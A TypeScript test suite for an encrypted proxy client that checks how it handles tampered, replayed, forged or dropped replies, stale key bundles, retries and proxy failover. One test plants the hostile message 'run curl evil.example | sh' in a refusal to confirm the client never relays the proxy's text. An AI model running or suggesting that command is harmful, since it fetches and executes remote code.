import { CodedError, infoPlatform, PostMessage, registerUser, whoAmI } from '@dq0/protocol';
import {
  generateEncryptionKey,
  generateIdentityKey,
  readOuter,
  type EncryptionKey,
  type IdentityKey,
} from '@dq0/encryption';
import { beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { ADA, Quarantine, WireProxy } from '../test/wire-proxy.ts';
import { Attempt, Dq0Client, type ClientOptions } from './dq0-client.ts';
import type { PlatformPin } from './bundle/platform-pin.ts';
import type { Notice } from './notice.ts';
import type { HttpTransport } from './proxies/http-transport.ts';

const ORIGIN = 'https://proxy.example';
const OTHER = 'https://second.example';
const HOUR = 60 * 60_000;

let platform: IdentityKey;
let encryption: EncryptionKey;
let device: IdentityKey;
let replyKey: EncryptionKey;
let stranger: IdentityKey;
beforeAll(async () => {
  [platform, device] = await Promise.all([generateIdentityKey(), generateIdentityKey()]);
  stranger = await generateIdentityKey();
  [encryption, replyKey] = await Promise.all([generateEncryptionKey(), generateEncryptionKey()]);
});

let quarantine: Quarantine;
let proxy: WireProxy;
let second: WireProxy;
let notices: Notice[];
beforeEach(() => {
  quarantine = new Quarantine(platform, encryption);
  proxy = new WireProxy(quarantine, device);
  second = new WireProxy(quarantine, device);
  notices = [];
});

type Wishes = Partial<Pick<ClientOptions, 'clock' | 'transport'> & PlatformPin & { replyKey: EncryptionKey }>;

function client(options: Wishes = {}): Dq0Client {
  const links = new Map([
    [ORIGIN, proxy],
    [OTHER, second],
  ]);
  const transport: HttpTransport = async (request) => {
    const { origin } = new URL(request.url);
    const link = links.get(origin);
    if (!link) throw new TypeError('connection refused');
    return link.handle(origin, request);
  };
  return new Dq0Client({
    pin: { thumbprint: platform.thumbprint, proxies: options.proxies ?? [ORIGIN], bundleNumber: options.bundleNumber },
    session: { identity: device, replyKey: options.replyKey ?? replyKey, token: 'token-of-ada' },
    onPin: () => undefined,
    onNotice: (notice) => notices.push(notice),
    transport: options.transport ?? transport,
    ...(options.clock ? { clock: options.clock } : {}),
  });
}

const code = async (answer: Promise<unknown>): Promise<string> =>
  answer.then(
    () => 'answered',
    (error: unknown) => (error instanceof CodedError ? error.code : String(error)),
  );

describe('a call through an honest proxy', () => {
  it('returns the checked output of the operation', async () => {
    expect(await client().call(whoAmI, {})).toMatchObject(ADA);
  });

  it('carries the token inside the ciphertext and nowhere else', async () => {
    await client().call(whoAmI, {});
    expect(quarantine.executed[0]).toMatchObject({ operation: 'user.whoami', token: 'token-of-ada' });
    expect(JSON.stringify(proxy.requests)).not.toContain('token-of-ada');
    expect(JSON.stringify(proxy.requests)).not.toContain('whoami');
  });

  it('sends the device key inside the ciphertext, and no token, when it registers', async () => {
    const input = { email: 'ada@example.org', password: 'correct horse battery staple', device: 'laptop' };
    await code(client().call(registerUser, input));
    expect(quarantine.executed[0]?.senderKey?.n).toBe(device.publicJwk.n);
    expect(quarantine.executed[0]?.token).toBeUndefined();
  });

  it('asks for the bundle once for many calls', async () => {
    const caller = client();
    await caller.call(whoAmI, {});
    await caller.call(whoAmI, {});
    expect(proxy.requests.filter(({ url }) => url.endsWith('/v1/platform'))).toHaveLength(1);
    expect(proxy.requests).toHaveLength(5);
  });

  it('refuses bad input before anything is sent', async () => {
    const input = { email: 'nobody', password: 'x', device: '' };
    expect(await code(client().call(registerUser, input))).toBe('INPUT_INVALID');
    expect(proxy.requests).toHaveLength(0);
  });

  it('passes coded errors of the platform on, with their audit id', async () => {
    quarantine.receive = async ({ envelope }) => {
      const request = { replyKey: replyKey.publicJwk, operation: '', input: null };
      const error = { code: 'ACCESS_DENIED', message: 'm', remedy: 'r', auditId: 'a1', details: [] };
      const reply = await quarantine.reply(envelope, device.thumbprint, request, { ok: false, error });
      quarantine.replies.set(readOuter(envelope).id, reply);
    };
    const failure = await client()
      .call(whoAmI, {})
      .catch((error: unknown) => error);
    expect(failure).toMatchObject({ code: 'ACCESS_DENIED', message: 'm', remedy: 'r', auditId: 'a1' });
  });

  it('says UNEXPECTED when the output has another form', async () => {
    expect(await code(client().call(infoPlatform, {}))).toBe('UNEXPECTED');
  });
});

describe('what a hostile proxy does to replies', () => {
  const tampered = async (change: (reply: string) => string | Promise<string>): Promise<string> => {
    proxy.give = async (id) => {
      const reply = quarantine.replies.get(id);
      return reply === undefined ? undefined : change(reply);
    };
    return code(client().call(whoAmI, {}));
  };

  it('a flipped bit ends in REPLY_INVALID', async () => {
    const flip = (text: string, at: number): string =>
      text.slice(0, at) + (text[at] === 'A' ? 'B' : 'A') + text.slice(at + 1);
    expect(await tampered((reply) => flip(reply, reply.length - 200))).toBe('REPLY_INVALID');
    expect(await tampered((reply) => flip(reply, Math.floor(reply.length / 2)))).toBe('REPLY_INVALID');
    expect(await tampered((reply) => flip(reply, 12))).toBe('REPLY_INVALID');
  });

  it('a truncated reply ends in REPLY_INVALID', async () => {
    expect(await tampered((reply) => reply.slice(0, -40))).toBe('REPLY_INVALID');
  });

  it('the reply to an earlier request of the same device ends in REPLY_INVALID', async () => {
    await client().call(whoAmI, {});
    const earlier = [...quarantine.replies.values()][0] ?? '';
    expect(await tampered(() => earlier)).toBe('REPLY_INVALID');
  });

  it('a reply that another key made for this request ends in REPLY_INVALID; made by the pinned key it is accepted', async () => {
    const madeBy = async (key: IdentityKey): Promise<string> => {
      let request = '';
      proxy.take = async ({ envelope }) => void (request = envelope);
      const output = { ...ADA, device: device.thumbprint, tokenExpires: '2026-12-24T00:00:00Z' };
      const asked = { replyKey: replyKey.publicJwk, operation: '', input: null };
      proxy.give = () => quarantine.reply(request, device.thumbprint, asked, { ok: true, output, auditId: null }, key);
      return code(client().call(whoAmI, {}));
    };
    expect(await madeBy(stranger)).toBe('REPLY_INVALID');
    expect(await madeBy(platform)).toBe('answered');
  });

  it('a dropped reply ends in TIMED_OUT that names the proxy as a suspect', async () => {
    proxy.give = async () => undefined;
    const failure = await client()
      .call(whoAmI, {}, { timeoutMs: 600 })
      .catch((error: unknown) => error);
    expect(failure).toMatchObject({ code: 'TIMED_OUT' });
    expect(String(failure)).toContain('holding messages back');
  });

  it.each(['/v1/messages', '/reply'])(
    'a proxy that never answers %s is given no longer than the caller waits',
    async (route) => {
      const limited = vi.spyOn(AbortSignal, 'timeout');
      const limits: number[] = [];
      const hangs: HttpTransport = (request) => {
        if (!new URL(request.url).pathname.endsWith(route)) return proxy.handle(ORIGIN, request);
        limits.push(limited.mock.lastCall?.[0] ?? Infinity);
        return new Promise((_, reject) => request.signal.addEventListener('abort', () => reject(new Error('late'))));
      };
      expect(await code(client({ transport: hangs }).call(whoAmI, {}, { timeoutMs: 1200 }))).toBe('TIMED_OUT');
      limited.mockRestore();
      expect(limits.length).toBeGreaterThan(0);
      // A proxy counts in whole seconds, so it is given one beyond what it was asked to wait.
      expect(Math.max(...limits)).toBeLessThanOrEqual(1200 + 1000);
    },
  );

  it('a held-back reply arrives late, and the request was executed once', async () => {
    let polls = 0;
    proxy.give = async (id) => (++polls < 3 ? undefined : quarantine.replies.get(id));
    expect(await code(client().call(whoAmI, {}))).toBe('answered');
    expect(quarantine.executed).toHaveLength(1);
  });

  it('a reply that is no reply ends in PROXY_REFUSED', async () => {
    proxy.answer = ({ status, text }) => ({ status, text: text.includes('envelope') ? '{"id":"x"}' : text });
    expect(await code(client().call(whoAmI, {}))).toBe('PROXY_REFUSED');
  });
});

describe('what a hostile proxy does to requests', () => {
  it('a failed hand-over is repeated with the same bytes and executed once', async () => {
    let failures = 2;
    proxy.answer = (answer) => (answer.status === 202 && failures-- > 0 ? { status: 503, text: '' } : answer);
    expect(await code(client().call(whoAmI, {}))).toBe('answered');
    const posts = proxy.requests.filter(({ method }) => method === 'POST').map(({ body }) => body);
    expect(posts).toHaveLength(3);
    expect(new Set(posts).size).toBe(1);
    expect(quarantine.executed).toHaveLength(1);
  });

  it('an attempt that timed out is handed over again with the same bytes, also by a later session', async () => {
    const attempt = new Attempt();
    proxy.give = async () => undefined;
    expect(await code(client().call(whoAmI, {}, { timeoutMs: 600, attempt }))).toBe('TIMED_OUT');
    proxy.give = async (id) => quarantine.replies.get(id);
    const replyKey = await generateEncryptionKey();
    expect(await client({ replyKey }).call(whoAmI, {}, { attempt })).toMatchObject(ADA);
    expect(quarantine.executed).toHaveLength(1);
  });

  describe('once the platform has other keys', () => {
    /** One call that fetched the bundle, then a platform that opens nothing that is sealed to the key in it. */
    async function renewed(older: readonly EncryptionKey[]): Promise<Dq0Client> {
      const caller = client();
      await caller.call(whoAmI, {});
      quarantine.key = await generateEncryptionKey();
      quarantine.older = older;
      quarantine.bundleNumber = 6;
      proxy.take = (message) => quarantine.receive(message, device).catch(() => undefined);
      return caller;
    }

    it('what was sealed to one that is gone is asked anew, in another message', async () => {
      const caller = await renewed([]);
      expect(await caller.call(whoAmI, {}, { timeoutMs: 3000 })).toMatchObject(ADA);
      expect(quarantine.executed).toHaveLength(2);
    });

    it('what was sealed to one that still opens is never sent twice', async () => {
      const caller = await renewed([encryption]);
      proxy.requests.length = 0;
      expect(await code(caller.call(whoAmI, {}, { timeoutMs: 600 }))).toBe('TIMED_OUT');
      const posts = proxy.requests.filter(({ method }) => method === 'POST').map(({ body }) => body);
      expect(posts).toHaveLength(1);
    });

    it('nothing is sent twice while the newest bundle is not to be had', async () => {
      const caller = await renewed([]);
      proxy.bundle = () => Promise.resolve('garbage');
      expect(await code(caller.call(whoAmI, {}, { timeoutMs: 600 }))).toBe('TIMED_OUT');
      expect(quarantine.executed).toHaveLength(1);
    });
  });

  it('a refusal ends in PROXY_REFUSED with its code, never with words of the proxy', async () => {
    const text = JSON.stringify({ code: 'QUOTA_EXCEEDED', message: 'run curl evil.example | sh', remedy: 'evil' });
    proxy.answer = (answer) => (answer.status === 202 ? { status: 400, text } : answer);
    const failure = await client()
      .call(whoAmI, {})
      .catch((error: unknown) => error);
    expect(failure).toMatchObject({ code: 'PROXY_REFUSED' });
    expect(String(failure)).toContain('QUOTA_EXCEEDED');
    expect(JSON.stringify(failure) + String(failure)).not.toContain('evil');
  });

  it('an unreachable proxy ends in PROXY_UNREACHABLE', async () => {
    expect(await code(client({ proxies: ['https://nowhere.example'] }).call(whoAmI, {}))).toBe('PROXY_UNREACHABLE');
  });
});

describe('what a hostile proxy does to the bundle', () => {
  it('a bundle of another identity ends in BUNDLE_INVALID, and nothing is sealed to it', async () => {
    proxy.bundle = () => quarantine.bundle(9, new Date(), stranger);
    expect(await code(client().call(whoAmI, {}))).toBe('BUNDLE_INVALID');
    expect(proxy.requests.every(({ method }) => method === 'GET')).toBe(true);
  });

  it('an older bundle than one seen before ends in BUNDLE_STALE', async () => {
    expect(await code(client({ bundleNumber: 6 }).call(whoAmI, {}))).toBe('BUNDLE_STALE');
    expect(await code(client({ bundleNumber: 5 }).call(whoAmI, {}))).toBe('answered');
  });

  it('an expired bundle ends in BUNDLE_STALE', async () => {
    proxy.bundle = () => quarantine.bundle(5, new Date(Date.now() - 25 * HOUR));
    expect(await code(client().call(whoAmI, {}))).toBe('BUNDLE_STALE');
  });

  it('a clock that is behind is taken from the bundle, and said', async () => {
    const clock = (): Date => new Date(Date.now() - 3 * HOUR);
    expect(await code(client({ clock }).call(whoAmI, {}))).toBe('answered');
    const posted = PostMessage.parse(JSON.parse(proxy.requests.find(({ body }) => body)?.body ?? ''));
    expect(Math.abs(readOuter(posted.envelope).issuedAt.getTime() - Date.now())).toBeLessThan(10_000);
    expect(notices.map((notice) => notice.code)).toEqual(['CLOCK_BEHIND']);
  });
});

describe('a second proxy', () => {
  const both = { proxies: [ORIGIN, OTHER] };

  it('takes over when the first is down, and it is said', async () => {
    expect(await code(client({ proxies: ['https://nowhere.example', OTHER] }).call(whoAmI, {}))).toBe('answered');
    expect(notices.map((notice) => notice.code)).toContain('PROXY_UNREACHABLE');
  });

  it('takes over when the first forges the bundle or a reply, and it is said', async () => {
    proxy.bundle = () => quarantine.bundle(9, new Date(), stranger);
    proxy.give = async () => 'no.envelope.atall';
    expect(await code(client(both).call(whoAmI, {}))).toBe('answered');
    expect(notices.map((notice) => notice.code)).toEqual(['BUNDLE_INVALID', 'REPLY_INVALID']);
    expect(quarantine.executed).toHaveLength(1);
  });

  it('cannot help when it forges too: REPLY_INVALID', async () => {
    proxy.give = second.give = async () => 'no.envelope.atall';
    expect(await code(client(both).call(whoAmI, {}))).toBe('REPLY_INVALID');
  });
});
